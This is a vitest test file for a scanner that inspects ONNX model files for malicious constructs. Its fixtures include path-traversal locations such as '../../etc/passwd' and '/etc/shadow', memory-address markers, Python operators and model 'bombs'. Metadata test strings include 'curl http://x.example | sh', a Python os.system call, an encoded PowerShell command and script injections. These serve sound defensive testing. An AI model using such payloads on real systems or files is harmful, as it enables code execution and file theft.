import ort from 'onnxruntime-node';
import { describe, expect, it } from 'vitest';
import { readOnnx } from '../../../shared/domain/onnx/reader.ts';
import { bytesSource } from '../../../shared/domain/onnx/wire.ts';
import type { Finding } from '../../../shared/domain/scan/finding.ts';
import { compareSeverity, isRefused, SCAN_RULES, scanModel } from '../../../shared/domain/scan/scan.ts';
import '../../../shared/node/onnx/no-telemetry.ts';
import { longestBase64Run } from '../../../shared/domain/scan/texts.ts';
import * as build from '../../support/onnx-builder.ts';

function scan(bytes: Uint8Array): Finding[] {
  return scanModel(readOnnx(bytesSource(bytes))).findings;
}
function scanSpec(spec: build.ModelSpec): Finding[] {
  return scan(build.model(spec));
}
function of(findings: readonly Finding[], ruleId: string): Finding[] {
  return findings.filter((finding) => finding.ruleId === ruleId);
}
/** A clean model plus nodes. */
function withNodes(nodes: readonly build.NodeSpec[], more: Partial<build.ModelSpec> = {}): build.ModelSpec {
  const base = build.logisticRegression();
  return { ...base, ...more, graph: { ...base.graph, nodes: [...(base.graph?.nodes ?? []), ...nodes] } };
}
/** A clean model plus an initializer kept elsewhere. */
function withExternal(external: build.TensorSpec['external'] & object, location = 1): build.ModelSpec {
  const base = build.logisticRegression();
  return {
    ...base,
    graph: {
      ...base.graph,
      initializers: [...(base.graph?.initializers ?? []), { name: 'x', dims: [4], external, location }],
    },
  };
}

describe('clean models', () => {
  it.each([
    ['a logistic regression', build.logisticRegression()],
    ['a forest', build.forest(50)],
  ])('%s has no finding', (_, spec) => {
    expect(scanSpec(spec)).toEqual([]);
  });

  it('names every rule that ran, after the rule set', () => {
    const { rulesRun } = scanModel(readOnnx(bytesSource(build.model(build.forest()))));
    expect(rulesRun).toEqual(['rules@1', ...SCAN_RULES.map((rule) => rule.id)]);
    expect(new Set(rulesRun).size).toBe(rulesRun.length);
  });

  it('bytes that spell an attack inside the weights are no finding', () => {
    const spec = build.logisticRegression();
    const raw = new Uint8Array(1000 * 4);
    raw.set(new TextEncoder().encode('PyOp PythonOp */_ORT_MEM_ADDR_/* ../../etc/passwd <script>'), 100);
    const initializers = [...(spec.graph?.initializers ?? []), { name: 'big', dims: [1000], raw }];
    expect(scanSpec({ ...spec, graph: { ...spec.graph, initializers } })).toEqual([]);
  });

  it("names that only contain an operator's name are no finding", () => {
    const findings = scanSpec(
      withNodes([{ type: 'NotPyOpAtAll', name: 'PyOp', inputs: ['label'], outputs: ['PythonOp'] }]),
    );
    expect(of(findings, 'python-operator')).toEqual([]);
  });
});

describe('external data', () => {
  const attacks: [string, Record<string, string>, string][] = [
    ['a path out of the folder', { location: '../../etc/passwd' }, 'CVE-2022-25882'],
    ['a path out behind a folder', { location: 'a/../../b' }, 'CVE-2024-27318'],
    ['a path out with backslashes', { location: 'a\\..\\..\\b' }, 'CVE-2024-27318'],
    ['percent escapes', { location: '%2e%2e/b' }, 'CVE-2024-27318'],
    ['a NUL', { location: 'weights.bin\0.txt' }, 'CVE-2024-5187'],
    ['an absolute path', { location: '/etc/shadow' }, 'CVE-2025-51480'],
    ['a drive', { location: 'C:\\x' }, 'CVE-2025-51480'],
    ['a linked folder', { location: 'weights/w.bin' }, 'CVE-2026-27489'],
    ['a plain name, which may be a link', { location: 'w.bin' }, 'CVE-2026-34446'],
    ['a URL', { location: 'file:///etc/passwd' }, 'CVE-2022-25882'],
    ['an injected attribute', { location: 'w.bin', __class__: 'x' }, 'CVE-2026-34445'],
    ['a huge length', { location: 'w.bin', length: '18446744073709551615' }, 'CVE-2026-34445'],
    ['a negative offset', { location: 'w.bin', offset: '-1' }, 'CVE-2026-34445'],
  ];
  it.each(attacks)('refuses %s and names it', (_, external, reference) => {
    const findings = scanSpec(withExternal(external));
    expect(isRefused(findings)).toBe(true);
    expect(of(findings, 'external-data')).toMatchObject([
      { severity: 'critical', where: 'graph initializer "x"' },
    ]);
    expect(of(findings, 'external-data')[0]?.reference).toContain(reference);
  });

  it('refuses entries without a location, a location without entries, and entries that claim to be inside', () => {
    expect(isRefused(scanSpec(withExternal({ offset: '0' })))).toBe(true);
    expect(isRefused(scanSpec(withExternal({})))).toBe(true);
    expect(isRefused(scanSpec(withExternal({ location: 'w.bin' }, 0)))).toBe(true);
    expect(isRefused(scanSpec(withExternal({}, 7)))).toBe(true);
  });

  const hidden = build.tensor({ name: 'x', dims: [1], external: { location: 'w' } });
  const inside = build.graph({
    nodes: [{ type: 'Constant', attributes: [{ name: 'value', tensor: hidden }] }],
  });
  const values = build.tensor({ dims: [1], floats: [1] });
  const places: [string, build.ModelSpec, string][] = [
    [
      'an attribute',
      withNodes([{ type: 'Constant', outputs: ['c'], attributes: [{ name: 'value', tensor: hidden }] }]),
      'graph/node[3] attribute "value" "x"',
    ],
    [
      'a list of tensors',
      withNodes([
        { type: 'Constant', outputs: ['c'], attributes: [{ name: 'v', tensors: [values, hidden] }] },
      ]),
      'graph/node[3]',
    ],
    [
      'a sparse attribute',
      withNodes([
        {
          type: 'Constant',
          outputs: ['c'],
          attributes: [{ name: 'v', sparse: build.sparse(values, hidden, [9]) }],
        },
      ]),
      'indices',
    ],
    [
      'a nested graph',
      withNodes([{ type: 'If', outputs: ['c'], attributes: [{ name: 'then_branch', graph: inside }] }]),
      'graph/node[3].then_branch/node[0]',
    ],
    [
      'a list of graphs',
      withNodes([
        { type: 'If', outputs: ['c'], attributes: [{ name: 'b', graphs: [build.graph({}), inside] }] },
      ]),
      'graph/node[3].b/node[0]',
    ],
    [
      'a function',
      {
        ...build.logisticRegression(),
        functions: [
          { name: 'f', nodes: [{ type: 'Constant', attributes: [{ name: 'value', tensor: hidden }] }] },
        ],
      },
      'function "f"/node[0]',
    ],
    [
      "a function's default",
      {
        ...build.logisticRegression(),
        functions: [{ name: 'f', attributes: [{ name: 'd', tensor: hidden }] }],
      },
      'function "f" attribute "d"',
    ],
    [
      "a graph in a function's default",
      {
        ...build.logisticRegression(),
        functions: [{ name: 'f', attributes: [{ name: 'd', graph: inside }] }],
      },
      'function "f"/default.d/node[0]',
    ],
    [
      'a training graph',
      { ...build.logisticRegression(), training: build.bytes(1, inside) },
      'training graph/node[0]',
    ],
    [
      'sparse initializers',
      {
        ...build.logisticRegression(),
        graph: {
          ...build.logisticRegression().graph,
          sparseInitializers: [build.sparse(hidden, values, [9])],
        },
      },
      'sparse initializer values',
    ],
  ];
  it.each(places)('is found in %s', (_, spec, where) => {
    const findings = of(scanSpec(spec), 'external-data');
    expect(findings).toHaveLength(1);
    expect(findings[0]?.where).toContain(where);
  });

  it.each(['*/_ORT_MEM_ADDR_/*', '*/_ORT_NATIVE_ENDIAN_MEM_ADDR_/*'])(
    "refuses the runtime's marker %s",
    (location) => {
      const findings = scanSpec(withExternal({ location, offset: '140737488355328', length: '16' }));
      expect(of(findings, 'memory-marker')).toMatchObject([{ severity: 'critical' }]);
      expect(of(findings, 'memory-marker')[0]?.reference).toContain('29011');
      expect(isRefused(findings)).toBe(true);
    },
  );
});

describe('operators', () => {
  it("an unknown domain is high, onnxruntime's own is medium", () => {
    const custom = of(
      scanSpec(
        withNodes([{ type: 'Steal', domain: 'evil.corp', inputs: ['label'], outputs: ['z'] }], {
          opsets: [
            ['', 15],
            ['evil.corp', 1],
          ],
        }),
      ),
      'custom-domain',
    );
    expect(custom).toMatchObject([{ severity: 'high', where: 'graph/node[3]' }]);
    const vendor = of(
      scanSpec(
        withNodes([{ type: 'FusedMatMul', domain: 'com.microsoft', outputs: ['z'] }], {
          opsets: [
            ['', 15],
            ['com.microsoft', 1],
          ],
        }),
      ),
      'custom-domain',
    );
    expect(vendor).toMatchObject([{ severity: 'medium' }]);
  });

  it("knows both spellings of ONNX's domain", () => {
    expect(
      scanSpec(withNodes([{ type: 'Identity', domain: 'ai.onnx', inputs: ['label'], outputs: ['z'] }])),
    ).toEqual([]);
  });

  it('a function of the file itself is judged by its body', () => {
    const call = withNodes([{ type: 'f', domain: 'local', inputs: ['label'], outputs: ['z'] }], {
      opsets: [
        ['', 15],
        ['local', 1],
      ],
    });
    expect(
      scanSpec({
        ...call,
        functions: [
          {
            name: 'f',
            inputs: ['a'],
            outputs: ['b'],
            nodes: [{ type: 'Identity', inputs: ['a'], outputs: ['b'] }],
          },
        ],
      }),
    ).toEqual([]);
    const evil = scanSpec({
      ...call,
      functions: [
        {
          name: 'f',
          inputs: ['a'],
          outputs: ['b'],
          nodes: [{ type: 'PyOp', domain: 'x', inputs: ['a'], outputs: ['b'] }],
        },
      ],
    });
    expect(of(evil, 'python-operator')).toMatchObject([
      { severity: 'critical', where: 'function "f"/node[0]' },
    ]);
    expect(of(evil, 'custom-domain')).toMatchObject([{ severity: 'high' }]);
  });

  it('finds Python operators in nested graphs', () => {
    const inner = build.graph({ nodes: [{ type: 'PythonOp', domain: 'com.microsoft', outputs: ['q'] }] });
    const findings = scanSpec(
      withNodes([
        {
          type: 'If',
          inputs: ['label'],
          outputs: ['z'],
          attributes: [{ name: 'else_branch', graph: inner }],
        },
      ]),
    );
    expect(of(findings, 'python-operator')).toMatchObject([{ where: 'graph/node[3].else_branch/node[0]' }]);
    expect(isRefused(findings)).toBe(true);
  });

  it('a loop is told, a loop in a loop is medium', () => {
    const inner = build.graph({ nodes: [{ type: 'Scan', outputs: ['q'] }] });
    const findings = of(
      scanSpec(
        withNodes([
          { type: 'Loop', inputs: ['label'], outputs: ['z'], attributes: [{ name: 'body', graph: inner }] },
        ]),
      ),
      'control-flow',
    );
    expect(findings.map((finding) => [finding.severity, finding.where])).toEqual([
      ['medium', 'graph/node[3].body/node[0]'],
      ['info', 'graph/node[3]'],
    ]);
  });

  it("a function that takes an operator's name is high; an EPContext too", () => {
    expect(
      of(
        scanSpec({ ...build.logisticRegression(), functions: [{ name: 'Sigmoid', domain: '' }] }),
        'function-shadowing',
      ),
    ).toMatchObject([{ severity: 'high' }]);
    expect(
      of(
        scanSpec(
          withNodes([
            {
              type: 'EPContext',
              domain: 'com.microsoft',
              attributes: [{ name: 'ep_cache_context', text: '../x.bin' }],
            },
          ]),
        ),
        'external-context',
      ),
    ).toMatchObject([{ severity: 'high' }]);
  });

  it('a string attribute of megabytes is told', () => {
    expect(
      of(
        scanSpec(
          withNodes([
            {
              type: 'Identity',
              inputs: ['label'],
              outputs: ['z'],
              attributes: [{ name: 'p', text: 'x'.repeat(1_100_000) }],
            },
          ]),
        ),
        'opaque-attribute',
      ),
    ).toMatchObject([{ severity: 'medium' }]);
  });
});

describe('functions', () => {
  const call = (name: string): build.NodeSpec => ({ type: name, domain: 'local' });
  it.each([
    ['itself', [{ name: 'a', nodes: [call('a')] }], '"a" → "a"'],
    [
      'through two',
      [
        { name: 'a', nodes: [call('b')] },
        { name: 'b', nodes: [call('c')] },
        { name: 'c', nodes: [call('a')] },
      ],
      '"a" → "b" → "c" → "a"',
    ],
    [
      'through a nested graph',
      [
        {
          name: 'a',
          nodes: [{ type: 'If', attributes: [{ name: 'g', graph: build.graph({ nodes: [call('a')] }) }] }],
        },
      ],
      '"a" → "a"',
    ],
  ] as [string, build.FunctionSpec[], string][])('a circle is refused: %s', (_, functions, path) => {
    const findings = of(scanSpec({ ...build.logisticRegression(), functions }), 'function-cycle');
    expect(findings).toMatchObject([{ severity: 'critical', reference: 'GHSA-7w46-vvrh-m8q5' }]);
    expect(findings[0]?.detail).toContain(path);
  });

  it('a long circle costs no stack', () => {
    const functions = Array.from({ length: 15_000 }, (_, index) => ({
      name: `f${index}`,
      nodes: [call(`f${(index + 1) % 15_000}`)],
    }));
    expect(of(scanSpec({ ...build.logisticRegression(), functions }), 'function-cycle')).toHaveLength(1);
  });

  it('a diamond is no circle; a chain of tens is a bomb', () => {
    const diamond = [
      { name: 'a', nodes: [call('b'), call('c')] },
      { name: 'b', nodes: [call('d')] },
      { name: 'c', nodes: [call('d')] },
      { name: 'd', nodes: [{ type: 'Identity' }] },
    ];
    expect(of(scanSpec({ ...build.logisticRegression(), functions: diamond }), 'function-cycle')).toEqual([]);
    expect(of(scanSpec({ ...build.logisticRegression(), functions: diamond }), 'function-expansion')).toEqual(
      [],
    );
    const bomb = Array.from({ length: 10 }, (_, level) => ({
      name: `b${level}`,
      nodes: Array.from({ length: 10 }, () => (level === 9 ? { type: 'Identity' } : call(`b${level + 1}`))),
    }));
    expect(
      of(scanSpec({ ...build.logisticRegression(), functions: bomb }), 'function-expansion'),
    ).toMatchObject([{ severity: 'critical' }]);
  });
});

describe('structure', () => {
  it('deep nesting is high', () => {
    let body: Uint8Array = build.graph({});
    for (let level = 0; level < 17; level += 1)
      body = build.graph({ nodes: [{ type: 'If', attributes: [{ name: 'b', graph: body }] }] });
    const findings = scan(
      build.concat(build.int(1, 8), build.bytes(7, body), build.bytes(8, build.int(2, 15))),
    );
    expect(of(findings, 'size-and-depth')).toMatchObject([{ severity: 'high' }]);
  });

  const tensors: [string, build.TensorSpec, string, string][] = [
    ['a shape beyond 2^31', { dims: [2 ** 20, 2 ** 20], floats: [1] }, 'huge-dimensions', 'high'],
    ['a negative dimension', { dims: [-4], floats: [1] }, 'huge-dimensions', 'high'],
    ['fewer bytes than its shape', { dims: [1000], raw: new Uint8Array(10) }, 'tensor-size', 'high'],
    ['fewer floats than its shape', { dims: [3], floats: [1, 2] }, 'tensor-size', 'high'],
    ['more bytes than its shape', { dims: [1], raw: new Uint8Array(4096) }, 'tensor-size', 'medium'],
    ['an unknown type', { dims: [1], type: 99, raw: new Uint8Array(4) }, 'tensor-size', 'medium'],
  ];
  it.each(tensors)('a tensor with %s', (_, spec, ruleId, severity) => {
    const base = build.logisticRegression();
    const findings = scanSpec({
      ...base,
      graph: { ...base.graph, initializers: [...(base.graph?.initializers ?? []), { name: 'x', ...spec }] },
    });
    expect(of(findings, ruleId)[0]).toMatchObject({ severity, where: 'graph initializer "x"' });
  });

  it('packs four-bit values two to a byte', () => {
    const base = build.logisticRegression();
    const initializers = [
      ...(base.graph?.initializers ?? []),
      { name: 'x', dims: [3], type: 22, raw: new Uint8Array(2) },
    ];
    expect(scanSpec({ ...base, graph: { ...base.graph, initializers } })).toEqual([]);
  });

  it('a sparse tensor that unfolds a million times is high', () => {
    const bomb = build.sparse(
      build.tensor({ dims: [1], floats: [1] }),
      build.tensor({ dims: [1], type: 7, raw: new Uint8Array(8) }),
      [2 ** 30],
    );
    const base = build.logisticRegression();
    expect(
      of(scanSpec({ ...base, graph: { ...base.graph, sparseInitializers: [bomb] } }), 'huge-dimensions'),
    ).toMatchObject([{ severity: 'high' }]);
  });

  it('names that come twice or from nowhere', () => {
    const twice = scanSpec(
      withNodes([{ type: 'Identity', inputs: ['features'], outputs: ['probabilities'] }]),
    );
    expect(of(twice, 'duplicate-names')).toMatchObject([{ severity: 'high', where: 'graph/node[3]' }]);
    const nowhere = scanSpec(withNodes([{ type: 'Identity', inputs: ['ghost', ''], outputs: ['z'] }]));
    expect(of(nowhere, 'dangling-names')).toMatchObject([{ severity: 'medium', where: 'graph/node[3]' }]);
  });

  it('a nested graph sees the names around it, and not the other way round', () => {
    const inner = build.graph({
      nodes: [{ type: 'Identity', inputs: ['logits'], outputs: ['q'] }],
      outputs: [build.value('q', null)],
    });
    const spec = withNodes([
      { type: 'If', inputs: ['label'], outputs: ['z'], attributes: [{ name: 'then_branch', graph: inner }] },
    ]);
    expect(of(scanSpec(spec), 'dangling-names')).toEqual([]);
    const outside = withNodes([
      ...(spec.graph?.nodes?.slice(3) ?? []),
      { type: 'Identity', inputs: ['q'], outputs: ['y'] },
    ]);
    expect(of(scanSpec(outside), 'dangling-names')).toHaveLength(1);
  });

  it('a field that comes twice and fields ONNX does not have', () => {
    const clean = build.model(build.logisticRegression());
    const findings = scan(
      build.concat(clean, build.bytes(7, build.graph({})), build.bytes(900, new Uint8Array(5000))),
    );
    expect(of(findings, 'hidden-fields').map((finding) => finding.severity)).toEqual(['high', 'medium']);
  });

  it('judges opsets as the bundled runtime does', async () => {
    for (const [domain, version, known] of [
      ['', 26, true],
      ['', 27, false],
      ['', 0, false],
      ['ai.onnx.ml', 5, true],
      ['ai.onnx.ml', 6, false],
    ] as const) {
      const bytes = build.model({
        ...build.logisticRegression(),
        opsets:
          domain === ''
            ? [['', version]]
            : [
                ['', 15],
                [domain, version],
              ],
      });
      const found = of(scan(bytes), 'opset-range').length === 0;
      expect(found, `${domain} ${version}`).toBe(known);
      // The runtime takes opset 0 for "not stated"; the specification does not have it.
      if (version > 0) expect(await loads(bytes), `${domain} ${version} in the runtime`).toBe(known);
    }
    for (const [irVersion, known] of [
      [13, true],
      [14, false],
    ] as const) {
      const bytes = build.model({ ...build.logisticRegression(), irVersion });
      expect(of(scan(bytes), 'opset-range').length === 0).toBe(known);
      expect(await loads(bytes)).toBe(known);
    }
  });
});

async function loads(bytes: Uint8Array): Promise<boolean> {
  try {
    const session = await ort.InferenceSession.create(bytes, { logSeverityLevel: 4 });
    await session.release();
    return true;
  } catch {
    return false;
  }
}

describe('texts', () => {
  const texts: [string, string, string][] = [
    ['a script', '<script src=x>', 'medium'],
    ['Python', '__import__("os").system("id")', 'medium'],
    ['a shell line', 'curl http://x.example | sh', 'medium'],
    ['PowerShell', 'powershell -enc AAAA', 'medium'],
    ['base64', 'QUJD'.repeat(80), 'medium'],
    ['an address', 'see https://example.org/model', 'low'],
  ];
  it.each(texts)('%s in metadata is told', (_, text, severity) => {
    const findings = of(
      scanSpec({ ...build.logisticRegression(), metadata: [['note', text]] }),
      'suspicious-metadata',
    );
    expect(findings[0]).toMatchObject({ severity, where: 'metadata "note"' });
  });

  it('looks into doc strings of graphs too, and leaves plain descriptions alone', () => {
    const base = build.logisticRegression();
    expect(
      of(
        scanSpec({ ...base, graph: { ...base.graph, doc: 'javascript:alert(1)' } }),
        'suspicious-metadata',
      )[0]?.where,
    ).toBe('graph doc string');
    expect(
      scanSpec({
        ...base,
        doc: 'Evaluates the system call rate (exec, curl) of a host. ROC AUC 0.98; features: src_bytes, dst_bytes.',
        metadata: [['training', 'a'.repeat(64)]],
      }),
    ).toEqual([]);
  });

  it('control and direction-changing characters are told and never shown', () => {
    const findings = scanSpec({
      ...build.logisticRegression(),
      producer: 'good\u202Ecod\u001b[2J',
      metadata: [['k', 'line\nbreaks\tare fine']],
    });
    expect(of(findings, 'control-characters')).toHaveLength(1);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for
    expect(JSON.stringify(findings.map((finding) => finding.where))).not.toMatch(/[\u0000-\u001f\u202e]/);
  });

  it('finds the longest base64 run in one pass', () => {
    expect(longestBase64Run('ab cd+/= x')).toBe(5);
    expect(longestBase64Run('')).toBe(0);
  });
});

describe('many findings', () => {
  it('lists 50 of a kind, counts the others, and puts the gravest first', () => {
    const many = Array.from(
      { length: 300 },
      (_, index): build.NodeSpec => ({ type: 'Identity', inputs: [`ghost${index}`], outputs: [`z${index}`] }),
    );
    const findings = scanSpec(withNodes([...many, { type: 'PyOp', outputs: ['q'] }]));
    expect(of(findings, 'dangling-names')).toHaveLength(51);
    expect(of(findings, 'dangling-names').at(-1)?.detail).toBe('250 more places are not listed.');
    expect(findings[0]?.ruleId).toBe('python-operator');
    expect(
      findings.every(
        (finding, index) =>
          index === 0 || compareSeverity(finding.severity, findings[index - 1]?.severity ?? 'info') <= 0,
      ),
    ).toBe(true);
  });

  it('a flood of small findings does not hide a grave one of the same rule', () => {
    const unknown = Array.from({ length: 90 }, (_, index) => build.int(300 + index, 1));
    const findings = of(
      scan(
        build.concat(
          build.model(build.logisticRegression()),
          ...unknown,
          build.bytes(900, new Uint8Array(5000)),
        ),
      ),
      'hidden-fields',
    );
    expect(findings[0]).toMatchObject({ severity: 'medium' });
    expect(findings).toHaveLength(52);
  });

  it('a refusal needs a critical finding', () => {
    expect(isRefused([])).toBe(false);
    expect(isRefused(scanSpec(withNodes([{ type: 'X', domain: 'evil', outputs: ['z'] }])))).toBe(false);
  });
});
